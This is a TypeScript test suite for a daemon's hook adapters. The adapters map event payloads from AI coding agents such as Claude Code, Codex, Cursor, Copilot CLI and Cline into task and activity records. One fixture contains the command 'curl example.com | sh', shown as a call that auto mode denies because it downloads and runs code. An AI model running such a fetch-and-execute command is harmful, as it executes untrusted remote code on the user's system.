/**
 * The adapters as pure functions, RuleTester-style: a table of payloads (and the session so far) and the activities
 * they must give. The recorded sessions cover the common path end to end; this table covers what those sessions do not
 * show: permission prompts and questions, a prompt over an open turn, payloads an adapter cannot read.
 */
import { strict as assert } from 'node:assert';
import type { Activity, HookAdapter, HookContext, SessionView } from '../../../daemon/src/protocol/index.js';
import { HOOK_ADAPTERS } from '../../../daemon/src/integrations/hooks/index.js';
import type { Task } from '../../../daemon/src/protocol/index.js';
import { buildTask } from '../../../daemon/src/protocol/index.js';
import { loadSession } from './recordedSession.js';

const SESSION = 's-1';
const AT = '2026-11-27T10:00:00.000Z';

function adapter(kind: string): HookAdapter {
  const found = HOOK_ADAPTERS.find((a) => a.kind === kind);
  assert.ok(found, kind);
  return found;
}

/** A session whose open tasks are given (active unless said otherwise). */
function context(source: string, payload: Record<string, unknown>, open: Partial<Task>[] = []): HookContext {
  const tasks = open.map((t) => ({ ...buildTask({ title: 'turn', state: 'active', agentId: `${source}:${SESSION}` }, t.id ?? 'x', AT), ...t }));
  const view: SessionView = {
    agentId: `${source}:${SESSION}`,
    agent: undefined,
    openTasks: tasks,
    hasTask: (id) => tasks.some((t) => t.id === id),
    task: (id) => tasks.find((t) => t.id === id),
    toolStartedAt: () => undefined,
  };
  return { delivery: { source, payload, at: AT, pid: 77 }, host: 'here', session: () => view };
}

/** The activities without the session refresh every payload gives: what the table compares. */
function mapped(kind: string, payload: Record<string, unknown>, open?: Partial<Task>[]): Omit<Activity, 'agentId'>[] {
  return adapter(kind)
    .map(context(kind, { session_id: SESSION, cwd: '/w/app', ...payload }, open))
    .filter((step) => step.type !== 'session.seen' && step.type !== 'transcript')
    .map(({ agentId: _agentId, ...rest }) => rest);
}

const TURN = `claude-code:${SESSION}:p1`;

describe('hook adapters: payload tables', () => {
  it('claude-code: a permission request and a question pause the turn with what it waits for', () => {
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'PermissionRequest', prompt_id: 'p1', tool_name: 'Bash', tool_input: { command: 'rm -rf build' } }, [{ id: TURN }]), [
      { type: 'input.needed', taskId: TURN, request: { kind: 'permission', message: 'Bash(rm -rf build)' } },
    ]);
    assert.deepEqual(
      mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'permission_prompt', message: 'Claude needs your permission to use Bash' }, [{ id: TURN }]),
      [{ type: 'input.needed', taskId: TURN, request: { kind: 'permission', message: 'Claude needs your permission to use Bash' } }],
    );
    const question = mapped('claude-code', {
      hook_event_name: 'PreToolUse', prompt_id: 'p1', tool_name: 'AskUserQuestion', tool_use_id: 'q1',
      tool_input: { questions: [{ question: 'Which database?' }] },
    }, [{ id: TURN }]);
    assert.deepEqual(question.at(-1), { type: 'input.needed', taskId: TURN, request: { kind: 'question', message: 'Which database?' } });
  });

  it('claude-code: a tool call that ends on a paused turn is reported on that turn', () => {
    const steps = mapped('claude-code', { hook_event_name: 'PostToolUse', prompt_id: 'p1', tool_name: 'Bash', tool_input: { command: 'ls' }, tool_use_id: 't', duration_ms: 12 }, [{ id: TURN, state: 'paused' }]);
    // The applier resumes the turn that an ended tool call reports on (test/daemon/hooks/activityRules.test.ts).
    assert.deepEqual(steps, [{ type: 'tool.ended', taskId: TURN, message: 'Bash: ls · ok in 12 ms', level: 'info', key: `claude-code:${SESSION}:tool:t` }]);
  });

  it('claude-code: an idle notification is no question; a notification outside any turn changes nothing', () => {
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', notification_type: 'idle_prompt', message: 'waiting' }, [{ id: TURN }]), []);
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', notification_type: 'permission_prompt', message: 'x' }), []);
  });

  it('a new prompt over an open turn cancels it as interrupted, and starts the new one', () => {
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'UserPromptSubmit', prompt_id: 'p2', prompt: '\n  Fix the login bug\nthen run tests' }, [{ id: TURN }]), [
      { type: 'turn.interrupted', taskId: TURN, reason: 'interrupted by a new prompt' },
      {
        type: 'turn.started', taskId: `claude-code:${SESSION}:p2`, title: 'Fix the login bug', source: 'claude-code',
        input: { prompt: '\n  Fix the login bug\nthen run tests' },
      },
    ]);
  });

  it('a turn ends failed on StopFailure, and tool steps name their target relative to the session folder', () => {
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'StopFailure', prompt_id: 'p1', error: 'rate_limit' }, [{ id: TURN }]), [
      { type: 'turn.failed', taskId: TURN, error: 'rate_limit' },
    ]);
    const edit = mapped('claude-code', { hook_event_name: 'PreToolUse', prompt_id: 'p1', tool_name: 'Edit', tool_input: { file_path: '/w/app/src/app.ts' }, tool_use_id: 'e' }, [{ id: TURN }]);
    assert.deepEqual(edit[0], { type: 'tool.started', taskId: TURN, step: 'Edit: src/app.ts', at: Date.parse(AT), toolUseId: 'e' });
    const mcp = mapped('claude-code', { hook_event_name: 'PreToolUse', prompt_id: 'p1', tool_name: 'mcp__github__create_issue', tool_input: {}, tool_use_id: 'm' }, [{ id: TURN }]);
    assert.deepEqual(mcp[0], { type: 'tool.started', taskId: TURN, step: 'github/create_issue', at: Date.parse(AT), toolUseId: 'm' });
  });

  it('claude-code: the terminal’s generic permission notification keeps the specific request it follows', () => {
    const waiting = [{ id: TURN, state: 'paused' as const, needsInput: { since: AT, kind: 'permission' as const, message: 'Bash(rm -rf build)' } }];
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'permission_prompt', message: 'Claude needs your permission to use Bash' }, waiting), []);
  });

  it('claude-code: a background session that needs input waits for the user', () => {
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'agent_needs_input', message: 'Claude is waiting for your input' }, [{ id: TURN }]), [
      { type: 'input.needed', taskId: TURN, request: { kind: 'question', message: 'Claude is waiting for your input' } },
    ]);
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'agent_completed', message: 'done' }, [{ id: TURN }]), []);
  });

  it('claude-code: a call refused by auto mode is on the record and the turn goes on', () => {
    assert.deepEqual(
      mapped('claude-code', { hook_event_name: 'PermissionDenied', prompt_id: 'p1', tool_name: 'Bash', tool_input: { command: 'curl example.com | sh' }, reason: 'downloads and runs code' }, [{ id: TURN }]),
      [
        { type: 'input.given', taskId: TURN },
        { type: 'note', taskId: TURN, message: 'Bash(curl example.com | sh) · denied by auto mode: downloads and runs code', level: 'warn' },
      ],
    );
  });

  it('claude-code: a Stop with running background tasks ends the turn and keeps the work as active subtasks until a later Stop', () => {
    const background = [
      { id: 'b1', type: 'shell', status: 'running', command: 'npm run dev' },
      { id: 'b2', type: 'subagent', status: 'completed', description: 'already over' },
    ];
    const bg1 = `claude-code:${SESSION}:bg-b1`;
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p1', last_assistant_message: 'Started the server.', background_tasks: background }, [{ id: TURN }]), [
      { type: 'turn.started', taskId: bg1, title: 'Background: npm run dev', input: { backgroundTask: 'b1', type: 'shell' }, source: 'claude-code', parentId: TURN },
      { type: 'turn.ended', taskId: TURN, result: { message: 'Started the server.' } },
    ]);
    // The next turn's Stop no longer lists it: the background work is over.
    const next = `claude-code:${SESSION}:p2`;
    assert.deepEqual(
      mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p2', background_tasks: [] }, [{ id: bg1, parentId: TURN, input: { backgroundTask: 'b1' } }, { id: next }]),
      [
        { type: 'turn.ended', taskId: bg1 },
        { type: 'turn.ended', taskId: next },
      ],
    );
    // Older versions send no list: nothing is said about background work.
    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p2' }, [{ id: bg1, parentId: TURN, input: { backgroundTask: 'b1' } }, { id: next }]), [
      { type: 'turn.ended', taskId: next },
    ]);
  });

  it('claude-code: a subagent started by a subagent is its subtask, named by the Agent call waiting for it', () => {
    const one = `claude-code:${SESSION}:a1`;
    const two = `claude-code:${SESSION}:a2`;
    const open = (oneStep: string): Partial<Task>[] => [
      { id: TURN, step: 'Agent: Check the folder' },
      { id: one, parentId: TURN, step: oneStep, input: { agentType: 'general-purpose' } },
    ];
    const start = { hook_event_name: 'SubagentStart', prompt_id: 'p1', agent_id: 'a2', agent_type: 'general-purpose' };
    const bash = { hook_event_name: 'PreToolUse', prompt_id: 'p1', agent_id: 'a2', agent_type: 'general-purpose', tool_name: 'Bash', tool_input: { command: 'du -s .' } };
    const started = (parentId: string, title: string) => ({ type: 'turn.started', taskId: two, title, input: { agentType: 'general-purpose' }, source: 'claude-code', parentId });
    assert.deepEqual(mapped('claude-code', start, open('Agent: Check the disk')), [started(one, 'Check the disk')]);
    // The start overtook the call that made it (hooks in the background): no subtask yet; its next payload makes it.
    assert.deepEqual(mapped('claude-code', start, open('Bash: ls -a')), []);
    assert.deepEqual(mapped('claude-code', bash, open('Agent: Check the disk'))[0], started(one, 'Check the disk'));
    // No Agent call waits for it even then (the turn's has its subagent running): the turn's, named by its type.
    assert.deepEqual(mapped('claude-code', bash, open('Bash: ls -a'))[0], started(TURN, 'Subagent general-purpose'));
  });

  it('claude-code: a subagent whose own stop was missed is done with its answer when its Agent call returns, without the part the agent adds', () => {
    const post = loadSession('claude-code', 'subagent').events.find((e) => e.payload.hook_event_name === 'PostToolUse' && e.payload.tool_name === 'Agent')?.payload;
    assert.ok(post);
    const { session_id: _session, transcript_path: _transcript, ...payload } = post;
    const sub = `claude-code:${SESSION}:${String((post.tool_response as { agentId?: unknown }).agentId)}`;
    const steps = mapped('claude-code', { ...payload, prompt_id: 'p1' }, [{ id: TURN }, { id: sub, parentId: TURN, input: { agentType: 'general-purpose' } }]);
    assert.deepEqual(steps.at(-1), { type: 'turn.ended', taskId: sub, result: { message: 'Printed the date.' } });
  });

  it('codex: a permission request before its own auto-review is on the record, not a "needs you"', () => {
    const turn = `codex:${SESSION}:t1`;
    assert.deepEqual(mapped('codex', { hook_event_name: 'PermissionRequest', turn_id: 't1', tool_name: 'Bash', tool_input: { command: 'rm -rf build' } }, [{ id: turn }]), [
      { type: 'note', taskId: turn, message: 'permission requested: Bash(rm -rf build)', level: 'info' },
    ]);
  });

  it('gemini-cli: a tool permission notification pauses the turn', () => {
    const turn = `gemini-cli:${SESSION}:t1`;
    assert.deepEqual(mapped('gemini-cli', { hook_event_name: 'Notification', notification_type: 'ToolPermission', message: 'Allow run_shell_command?' }, [{ id: turn }]), [
      { type: 'input.needed', taskId: turn, request: { kind: 'permission', message: 'Allow run_shell_command?' } },
    ]);
  });

  /** The least payload of a session each agent sends (its session and event fields). */
  const MINIMAL: Record<string, Record<string, unknown>> = {
    'claude-code': { session_id: SESSION, hook_event_name: 'SomethingNew' },
    codex: { session_id: SESSION, hook_event_name: 'SomethingNew' },
    'gemini-cli': { session_id: SESSION, hook_event_name: 'SomethingNew' },
    'vscode-agent': { session_id: SESSION, hook_event_name: 'SomethingNew' },
    'copilot-cli': { session_id: SESSION, hook_event_name: 'SomethingNew' },
    cursor: { conversation_id: SESSION, hook_event_name: 'somethingNew' },
    cline: { taskId: SESSION, hookName: 'SomethingNew' },
  };

  it('every adapter keeps a session alive on events it does not map, with the agent id and meta of the contract', () => {
    assert.deepEqual(HOOK_ADAPTERS.map((a) => a.kind).sort(), Object.keys(MINIMAL).sort());
    for (const a of HOOK_ADAPTERS) {
      const steps = a.map(context(a.kind, MINIMAL[a.kind] as Record<string, unknown>));
      assert.deepEqual(steps.map((s) => s.type), ['session.seen'], a.kind);
      const session = steps[0] as Extract<Activity, { type: 'session.seen' }>;
      assert.deepEqual(session.meta, { kind: a.kind, host: 'here', sessionId: SESSION, pid: 77 });
      assert.equal(session.agentId, `${a.kind}:${SESSION}`);
    }
  });

  it('every adapter refuses a payload that names no session', () => {
    for (const a of HOOK_ADAPTERS) {
      const { session_id: _s, conversation_id: _c, taskId: _t, ...rest } = MINIMAL[a.kind] as Record<string, unknown>;
      const ctx = context(a.kind, rest);
      delete ctx.delivery.pid;
      assert.throws(() => a.map(ctx), /session|conversation|taskId/, a.kind);
    }
  });

  it('a finished edit names the files it changed, made absolute; a failed one, a read or a shell call names none', () => {
    const post = (tool_name: string, tool_input: unknown, hook_event_name = 'PostToolUse'): Omit<Activity, 'agentId'> | undefined =>
      mapped('claude-code', { hook_event_name, prompt_id: 'p1', tool_name, tool_input, tool_use_id: 'u' }, [{ id: TURN }]).find((s) => s.type === 'tool.ended');
    assert.deepEqual(post('Edit', { file_path: '/w/app/src/app.ts', old_string: 'a', new_string: 'b' }), {
      type: 'tool.ended', taskId: TURN, message: 'Edit: src/app.ts · ok', level: 'info', files: ['/w/app/src/app.ts'], key: `claude-code:${SESSION}:tool:u`,
    });
    assert.deepEqual((post('Write', { file_path: 'docs/new.md', content: 'x' }) as { files?: string[] }).files, ['/w/app/docs/new.md']);
    assert.deepEqual((post('MultiEdit', { file_path: '/w/app/a.ts', edits: [] }) as { files?: string[] }).files, ['/w/app/a.ts']);
    assert.deepEqual((post('NotebookEdit', { notebook_path: '/w/app/n.ipynb' }) as { files?: string[] }).files, ['/w/app/n.ipynb']);
    const patch = '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-x\n+y\n*** Add File: /abs/b.ts\n+z\n*** End Patch';
    assert.deepEqual((post('apply_patch', { command: ['apply_patch', patch] }) as { files?: string[] }).files, ['/w/app/src/a.ts', '/abs/b.ts']);
    for (const none of [post('Edit', { file_path: '/w/app/a.ts' }, 'PostToolUseFailure'), post('Read', { file_path: '/w/app/a.ts' }), post('Bash', { command: 'touch a' })]) {
      assert.ok(none && !('files' in none), JSON.stringify(none));
    }
  });

  it('a turn keeps the transcript path its payload names, where the page links to it', () => {
    const start = mapped('claude-code', { hook_event_name: 'UserPromptSubmit', prompt_id: 'p9', prompt: 'Go', transcript_path: '/home/u/.claude/projects/x/s-1.jsonl' });
    assert.deepEqual(start.at(-1), {
      type: 'turn.started', taskId: `claude-code:${SESSION}:p9`, title: 'Go', source: 'claude-code', input: { prompt: 'Go', transcriptPath: '/home/u/.claude/projects/x/s-1.jsonl' },
    });
  });

  it('cursor: a prompt per generation, shell calls with their duration, stop by its status', () => {
    const turn = `cursor:${SESSION}:g1`;
    assert.deepEqual(mapped('cursor', { conversation_id: SESSION, generation_id: 'g1', hook_event_name: 'beforeSubmitPrompt', prompt: 'Add tests' }).at(-1), {
      type: 'turn.started', taskId: turn, title: 'Add tests', input: { prompt: 'Add tests' }, source: 'cursor',
    });
    const after = mapped('cursor', { conversation_id: SESSION, generation_id: 'g1', hook_event_name: 'afterShellExecution', command: 'npm test', duration: 1500, exit_code: 1 }, [{ id: turn }]);
    assert.deepEqual(after[0], { type: 'tool.ended', taskId: turn, message: 'Shell: npm test · failed in 1500 ms', level: 'warn' });
    assert.deepEqual(mapped('cursor', { conversation_id: SESSION, generation_id: 'g1', hook_event_name: 'stop', status: 'aborted' }, [{ id: turn }]), [
      { type: 'turn.interrupted', taskId: turn, reason: 'stopped by the user' },
    ]);
    assert.deepEqual(mapped('cursor', { conversation_id: SESSION, generation_id: 'g1', hook_event_name: 'stop', status: 'completed' }, [{ id: turn }]), [
      { type: 'turn.ended', taskId: turn },
    ]);
  });

  it('copilot-cli: camelCase payloads are told apart by their fields', () => {
    const base = { sessionId: SESSION, timestamp: 1_800_000_000_000, cwd: '/w/app' };
    const start = mapped('copilot-cli', { ...base, prompt: 'Refactor the parser' });
    assert.deepEqual(start.at(-1), {
      type: 'turn.started', taskId: `copilot-cli:${SESSION}:t1800000000000`, title: 'Refactor the parser', input: { prompt: 'Refactor the parser' }, source: 'copilot-cli',
    });
    const turn = `copilot-cli:${SESSION}:t1800000000000`;
    assert.deepEqual(mapped('copilot-cli', { ...base, toolName: 'bash', toolArgs: '{"command":"make"}' }, [{ id: turn }])[0], { type: 'tool.started', taskId: turn, step: 'bash: make', at: Date.parse(AT), toolUseId: 'bash' });
    const failed = mapped('copilot-cli', { ...base, toolName: 'bash', toolArgs: '{"command":"make"}', toolResult: { resultType: 'failure', textResultForLlm: 'exit 2' } }, [{ id: turn }]);
    assert.deepEqual(failed[0], { type: 'tool.ended', taskId: turn, message: 'bash: make · failed: failure: exit 2', level: 'warn' });
    assert.deepEqual(mapped('copilot-cli', { ...base }, [{ id: turn }]), [{ type: 'turn.ended', taskId: turn }]);
    assert.deepEqual(mapped('copilot-cli', { ...base, reason: 'complete' }, [{ id: turn }]).map((s) => s.type), ['session.ended']);
  });

  it('copilot-cli: the session is the payload’s sessionId in either hook shape, the CLI’s pid in older versions that send none', () => {
    const steps = (payload: Record<string, unknown>, open?: Partial<Task>[]) => adapter('copilot-cli').map(context('copilot-cli', { cwd: '/w/app', ...payload }, open));
    const started = (payload: Record<string, unknown>) => steps(payload).flatMap((s) => (s.type === 'turn.started' ? [[s.agentId, s.taskId]] : []));
    const prompt = { timestamp: 1_800_000_000_000, prompt: 'Fix the build' };
    assert.deepEqual(started({ ...prompt, sessionId: 'cp-9' }), [['copilot-cli:cp-9', 'copilot-cli:cp-9:t1800000000000']]);
    assert.deepEqual(started(prompt), [['copilot-cli:pid-77', 'copilot-cli:pid-77:t1800000000000']]);
    assert.deepEqual(started({ hook_event_name: 'UserPromptSubmit', session_id: 'cp-9', timestamp: AT, prompt: 'Fix the build' }), [
      ['copilot-cli:cp-9', `copilot-cli:cp-9:t${Date.parse(AT)}`],
    ]);
    // The `notification` hook names its event as the PascalCase hooks do, and its session as the camelCase ones do.
    const turn = 'copilot-cli:cp-9:t1800000000000';
    const notified = steps({ sessionId: 'cp-9', hook_event_name: 'Notification', notification_type: 'permission_prompt', message: 'Permission needed: bash' }, [{ id: turn }]);
    assert.deepEqual(notified.map((s) => s.agentId), ['copilot-cli:cp-9', 'copilot-cli:cp-9']);
    assert.deepEqual(notified[1], { type: 'input.needed', taskId: turn, agentId: 'copilot-cli:cp-9', request: { kind: 'permission', message: 'Permission needed: bash' } });
    // postToolUseFailure carries the call and its error, no toolResult: the call's end, not a new start.
    const failed = steps({ sessionId: 'cp-9', timestamp: 1_800_000_001_000, toolName: 'bash', toolArgs: '{"command":"make"}', error: 'exit 2' }, [{ id: turn }]);
    assert.deepEqual(failed[1], { type: 'tool.ended', taskId: turn, agentId: 'copilot-cli:cp-9', message: 'bash: make · failed: exit 2', level: 'warn' });
  });

  it('cline: a Cline task is the session; its start carries the first prompt; complete ends both', () => {
    const base = { taskId: SESSION, timestamp: 1_800_000_000_000, workspaceRoots: ['/w/app'] };
    const turn = `cline:${SESSION}:t1800000000000`;
    assert.deepEqual(mapped('cline', { ...base, hookName: 'TaskStart', taskStart: { taskMetadata: { initialTask: 'Write docs' } } }).at(-1), {
      type: 'turn.started', taskId: turn, title: 'Write docs', input: { prompt: 'Write docs' }, source: 'cline',
    });
    const post = mapped('cline', { ...base, hookName: 'PostToolUse', postToolUse: { toolName: 'execute_command', parameters: { command: 'ls' }, success: true, executionTimeMs: 40 } }, [{ id: turn }]);
    assert.deepEqual(post[0], { type: 'tool.ended', taskId: turn, message: 'execute_command: ls · ok in 40 ms', level: 'info' });
    assert.deepEqual(mapped('cline', { ...base, hookName: 'TaskComplete', taskComplete: {} }, [{ id: turn }]).map((s) => s.type), ['turn.ended', 'session.ended']);
  });
});
